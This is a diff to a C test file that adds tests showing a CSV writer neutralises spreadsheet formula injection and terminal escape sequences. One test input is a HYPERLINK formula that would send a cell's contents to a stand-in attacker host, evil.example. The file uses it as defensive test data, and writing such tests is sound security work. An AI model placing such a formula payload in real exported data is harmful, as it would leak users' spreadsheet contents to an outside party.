@@ -125,6 +125,16 @@ static char *out_capture(void (*fn)(FILE *, const char *), const char *s)
 	return buf;
 }
 
+static void out_csv_guarded(FILE *fp, const char *s)
+{
+	out_csv_field(fp, s, false);
+}
+
+static void out_csv_raw(FILE *fp, const char *s)
+{
+	out_csv_field(fp, s, true);
+}
+
 static void out_cell_10(FILE *fp, const char *s)
 {
 	out_cell(fp, s, 10);
@@ -138,11 +148,31 @@ static void test_out(void)
 	CHECK_STR(s, "\"a\\u001b]0;x\\u0007\\\"\\\\\\n\\u007f\\u009b\\ufffd\\u202e£\"");
 	free(s);
 	/* CSV: made safe, quoted for a comma or a line break, which stays. */
-	s = out_capture(out_csv_field, "a\x1b[2Jb");
+	s = out_capture(out_csv_guarded, "a\x1b[2Jb");
 	CHECK_STR(s, "a" TEXT_MARK "[2Jb");
 	free(s);
-	s = out_capture(out_csv_field, "x,\"y\"\nz\x9b");
+	s = out_capture(out_csv_guarded, "x,\"y\"\nz\x9b");
 	CHECK_STR(s, "\"x,\"\"y\"\"\nz" TEXT_MARK "\"");
+	free(s);
+	/* A field a spreadsheet would run as a formula: '-prefixed and quoted (OWASP); the
+	 * same character later in the field, or --raw, changes nothing. */
+	static const char *const formulas[][2] = {
+		{"=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Details\")",
+		 "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Details\"\")\""},
+		{"+1+1", "\"'+1+1\""},
+		{"-2+3", "\"'-2+3\""},
+		{"@SUM(A1)", "\"'@SUM(A1)\""},
+		{"\tx", "\"' x\""},
+		{"\rx", "\"' x\""},
+		{"a=b-c", "a=b-c"},
+	};
+	for (size_t i = 0; i < sizeof formulas / sizeof formulas[0]; i++) {
+		s = out_capture(out_csv_guarded, formulas[i][0]);
+		CHECK_STR(s, formulas[i][1]);
+		free(s);
+	}
+	s = out_capture(out_csv_raw, "=1+1");
+	CHECK_STR(s, "=1+1");
 	free(s);
 	/* Cells: the mark keeps one column, so the padding stays right. */
 	s = out_capture(out_cell_10, "a\xe2\x80\xae" "b\tc");
